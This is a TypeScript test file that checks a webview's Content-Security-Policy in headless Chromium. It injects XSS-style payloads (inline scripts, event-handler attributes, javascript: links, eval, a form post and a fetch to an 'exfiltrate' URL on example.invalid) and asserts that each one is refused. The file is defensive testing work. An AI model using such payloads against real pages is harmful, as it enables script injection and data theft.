/**
 * Webview security against hostile input, in a real headless Chromium (Debian's /usr/bin/chromium driven
 * by playwright-core; test/webview/chromiumPage.ts), from the built bundles in dist/ (`npx webpack`):
 *
 * 1. The extension's own HTML shell (src/extension/webviewHtml.ts) and its Content-Security-Policy: a
 *    fresh nonce per load; the nonced bundle runs; inline scripts, event-handler attributes, remote
 *    scripts, styles, images, frames and fonts, eval, `<base>` and form posts are refused (with a
 *    `securitypolicyviolation` event) and no request leaves for another origin (network events).
 * 2. Hostile trace text (markup, script, `javascript:` links, layout-breaking CSS, bidi overrides,
 *    zero-width characters, a 5 MB response, 10,000 nested braces, hostile image paths) through the real
 *    curator host (CuratorSession over the in-process dataset engine reading a generated JSONL file) into
 *    the real curator webview: shown as text, nothing runs, the layout holds, the keyboard still works,
 *    no remote request, bounded time.
 * 3. A 1000 x 1000 board for every task that has one, through the same host: bounded time, no crash,
 *    and a board model that does not fit the renderer's limits is refused with a message, not drawn.
 *
 * Skipped, with a message, only when /usr/bin/chromium is not installed.
 */
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { webviewHtml } from '../../src/extension/webviewHtml';
import { builtDist, expectCleanRun, openPage, ORIGIN, skipWithoutChromium, type ChromiumPage, type PageWindow } from '../webview/chromiumPage';
import { watchNetwork, type NetworkLog } from './webviewPage';

const skip = skipWithoutChromium('test/hostile/webview.security.test.ts');

interface HostileWindow extends PageWindow {
  __pwned?: string;
}

/** What each injected piece of markup tries; all of it must be refused by the CSP. */
const INJECTED = [
  `<script>window.__pwned = 'inline script'</script>`,
  `<script nonce="not-the-nonce">window.__pwned = 'wrong nonce'</script>`,
  `<script src="https://example.invalid/x.js"></script>`,
  `<img id="handler-img" src="${ORIGIN}/dist/missing.png" onerror="window.__pwned = 'onerror'">`,
  `<svg onload="window.__pwned = 'svg onload'"><circle r="2"></circle></svg>`,
  `<a id="js-link" href="javascript:window.__pwned = 'javascript: link'">link</a>`,
  `<img id="remote-img" src="https://example.invalid/track.png">`,
  `<link rel="stylesheet" href="https://example.invalid/x.css">`,
  `<style>#root { display: none !important }</style>`,
  `<div id="styled" style="position: fixed; inset: 0; z-index: 99999; background: red"></div>`,
  `<iframe src="https://example.invalid/frame.html"></iframe>`,
  `<object data="https://example.invalid/x.swf"></object>`,
  `<form id="post" action="https://example.invalid/collect" method="post"><input name="q" value="secret"></form>`,
];

/** The shell around `bundle`, with `extra` markup injected into the body before the bundle's script; the nonce of each load is kept. */
function injectedShell(bundle: string, extra: string[], nonces: string[]): () => string {
  return () => {
    const html = webviewHtml({ cspSource: ORIGIN, scriptUri: `${ORIGIN}/dist/${bundle}.js`, styleUri: `${ORIGIN}/dist/${bundle}.css`, title: 'Hostile', inlineImages: true });
    const nonce = /<script nonce="([^"]+)"/.exec(html)?.[1];
    if (!nonce) throw new Error('the shell has no nonced script');
    nonces.push(nonce);
    return html.replace('<div id="root"></div>', `<div id="root"></div>\n${extra.join('\n')}`);
  };
}

describe.skipIf(skip)('the webview HTML shell and its CSP in Chromium', () => {
  let p: ChromiumPage;
  let net: NetworkLog;
  const nonces: string[] = [];

  beforeAll(async () => {
    p = await openPage({ viewport: { width: 1000, height: 700 }, html: injectedShell('curator', INJECTED, nonces), files: builtDist('curator.js', 'curator.css', 'codicon.ttf'), vsCodeApi: true });
    net = watchNetwork(p.page);
    await p.goto();
    await p.page.waitForFunction(() => (window as unknown as { __posted: Array<{ type: string }> }).__posted.some((m) => m.type === 'ready'));
  }, 60_000);

  afterAll(async () => {
    await p?.close();
  });

  it('carries the CSP meta with a fresh nonce per load; the nonced bundle runs', async () => {
    const first = await p.page.evaluate(() => ({
      csp: document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? null,
      scriptNonce: document.querySelector('script[src$="/dist/curator.js"]')?.nonce ?? null,
      posted: (window as unknown as { __posted: Array<{ type: string }> }).__posted.map((m) => m.type),
      curator: document.querySelector('[data-testid="curator"]') !== null,
    }));
    expect(first.csp).not.toBeNull();
    const directives = new Map(first.csp!.split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k!, v]));
    expect(directives.get('default-src')).toEqual(["'none'"]);
    expect(directives.get('script-src')).toEqual([`'nonce-${nonces[0]}'`]);
    expect(directives.get('style-src')).toEqual([ORIGIN]);
    expect(directives.get('font-src')).toEqual([ORIGIN]);
    expect(directives.get('img-src')).toEqual([ORIGIN, 'data:', 'blob:']);
    expect(directives.get('base-uri')).toEqual(["'none'"]);
    expect(directives.get('form-action')).toEqual(["'none'"]);
    expect(first.csp).not.toMatch(/unsafe-|\*|https?:\/\/(?!webview\.helix\.test)/);
    expect(first.scriptNonce).toBe(nonces[0]);
    expect(first.posted[0]).toBe('ready');
    expect(first.curator).toBe(true);

    await p.goto();
    await p.page.waitForFunction(() => (window as unknown as { __posted: Array<{ type: string }> }).__posted.some((m) => m.type === 'ready'));
    expect(nonces).toHaveLength(2);
    expect(nonces[1]).not.toBe(nonces[0]);
    expect(nonces[1]).toMatch(/^[A-Za-z0-9]{16,}$/);
    const csp2 = await p.page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '');
    expect(csp2).toContain(`'nonce-${nonces[1]}'`);
    expect(csp2).not.toContain(nonces[0]);
  });

  it('refuses every injected inline script, handler attribute and remote resource, each with a securitypolicyviolation', async () => {
    // Let the img error fire and the frame/object settle.
    await p.page.waitForFunction(() => (document.getElementById('handler-img') as HTMLImageElement | null)?.complete === true);
    await p.page.evaluate(() => document.getElementById('js-link')?.click());
    await p.page.evaluate(() => (document.getElementById('post') as HTMLFormElement).requestSubmit());
    await p.page.waitForTimeout(200);
    const state = await p.page.evaluate(() => ({
      pwned: (window as unknown as HostileWindow).__pwned ?? null,
      rootDisplay: getComputedStyle(document.getElementById('root')!).display,
      styledPosition: getComputedStyle(document.getElementById('styled')!).position,
      remoteImgWidth: (document.getElementById('remote-img') as HTMLImageElement).naturalWidth,
      url: location.href,
    }));
    expect(state.pwned).toBeNull();
    expect(state.rootDisplay).not.toBe('none');
    expect(state.styledPosition).toBe('static');
    expect(state.remoteImgWidth).toBe(0);
    expect(state.url).toBe(`${ORIGIN}/index.html`);
    const violations = await p.violations();
    const of = (directive: string, what: RegExp) => violations.filter((v) => v.startsWith(directive) && what.test(v));
    // No nonce, wrong nonce, and the javascript: link (Chromium reports its navigation as an inline script element).
    expect(of('script-src-elem', /inline/).length, violations.join('\n')).toBe(3);
    expect(of('script-src-elem', /example\.invalid\/x\.js/)).toHaveLength(1);
    expect(of('script-src-attr', /inline/)).toHaveLength(2); // onerror, onload
    expect(of('img-src', /example\.invalid\/track\.png/)).toHaveLength(1);
    expect(of('style-src-elem', /example\.invalid\/x\.css/)).toHaveLength(1);
    expect(of('style-src-elem', /inline/)).toHaveLength(1);
    expect(of('style-src-attr', /inline/)).toHaveLength(1);
    expect(of('frame-src', /example\.invalid/)).toHaveLength(1);
    expect(of('object-src', /example\.invalid/)).toHaveLength(1);
    expect(of('form-action', /example\.invalid/)).toHaveLength(1);
  });

  it('blocks eval, new Function, string timers, script elements made at run time, fetch and <base>', async () => {
    const before = (await p.violations()).length;
    const r = await p.page.evaluate(async () => {
      const w = window as unknown as HostileWindow;
      const attempt = (f: () => unknown): string => {
        try {
          f();
          return 'ran';
        } catch (e) {
          return (e as Error).name;
        }
      };
      // Not here, in the evaluated function: DevTools lets code it evaluates call eval whatever the CSP
      // says (Runtime.evaluate's allowUnsafeEvalBlockedByCSP). From a timer, the page's own code runs it.
      const [evalResult, fnResult] = await new Promise<[string, string]>((resolve) =>
        setTimeout(() => resolve([attempt(() => (0, eval)("window.__pwned = 'eval'")), attempt(() => new Function("window.__pwned = 'Function'")())]), 0),
      );
      // A string timer is refused without an exception: give it a tick.
      (setTimeout as unknown as (code: string, ms: number) => number)("window.__pwned = 'timer'", 0);
      const s = document.createElement('script');
      s.textContent = "window.__pwned = 'dynamic script'";
      document.body.appendChild(s);
      const remote = document.createElement('script');
      remote.src = 'https://example.invalid/dynamic.js';
      document.body.appendChild(remote);
      let fetchResult = 'ran';
      try {
        await fetch('https://example.invalid/exfiltrate?d=1');
      } catch (e) {
        fetchResult = (e as Error).name;
      }
      const base = document.createElement('base');
      base.href = 'https://example.invalid/';
      document.head.appendChild(base);
      const baseURI = document.baseURI;
      await new Promise((resolve) => setTimeout(resolve, 100));
      return { evalResult, fnResult, fetchResult, baseURI, pwned: w.__pwned ?? null };
    });
    expect(r).toEqual({ evalResult: 'EvalError', fnResult: 'EvalError', fetchResult: 'TypeError', baseURI: `${ORIGIN}/index.html`, pwned: null });
    const violations = (await p.violations()).slice(before);
    expect(violations.filter((v) => v.startsWith('script-src') && / eval /.test(` ${v} `)).length, violations.join('\n')).toBeGreaterThanOrEqual(3);
    expect(violations.some((v) => v.startsWith('connect-src') && v.includes('example.invalid/exfiltrate'))).toBe(true);
    expect(violations.some((v) => v.startsWith('script-src-elem') && v.includes('example.invalid/dynamic.js'))).toBe(true);
    expect(violations.some((v) => v.startsWith('base-uri'))).toBe(true);
  });

  it('no request left for another origin: everything came from the webview origin, and every style sheet is the bundle', async () => {
    expect(net.urls.length).toBeGreaterThan(0);
    // Asked for, then refused by the CSP inside the browser: never sent.
    const remote = net.urls.filter((u) => u.includes('example.invalid'));
    expect(remote.length).toBeGreaterThanOrEqual(4);
    expect([...new Set(net.cspBlocked)].sort()).toEqual([...new Set(remote)].sort());
    expect(net.foreign()).toEqual([]);
    // And nothing reached the network layer for another origin (the page's router would have listed and aborted it).
    expect(p.blocked).toEqual([]);
    // The refused <link> keeps an empty sheet object; its request was refused above, so no rule of it applies.
    const sheets = await p.page.evaluate(() => [...document.styleSheets].map((s) => s.href));
    expect(sheets.filter((h) => h !== 'https://example.invalid/x.css')).toEqual([`${ORIGIN}/dist/curator.css`]);
    expect(net.cspBlocked).toContain('https://example.invalid/x.css');
    expect(p.dialogs).toEqual([]);
    expect(p.pageErrors).toEqual([]);
  });
});

describe.skipIf(skip)('each bundle under the shell, without injections, runs clean', () => {
  for (const bundle of ['curator', 'webview'] as const) {
    it(`${bundle}: nothing refused, nothing remote`, async () => {
      const nonces: string[] = [];
      const p = await openPage({ viewport: { width: 900, height: 600 }, html: injectedShell(bundle, [], nonces), files: builtDist(`${bundle}.js`, `${bundle}.css`, 'codicon.ttf'), vsCodeApi: true });
      try {
        const net = watchNetwork(p.page);
        await p.goto();
        await p.page.waitForFunction(() => (window as unknown as { __posted: Array<{ type: string }> }).__posted.some((m) => m.type === 'ready'));
        await expectCleanRun(p);
        expect(net.foreign()).toEqual([]);
      } finally {
        await p.close();
      }
    }, 60_000);
  }
});

export const _tmp = { fs, os, path };
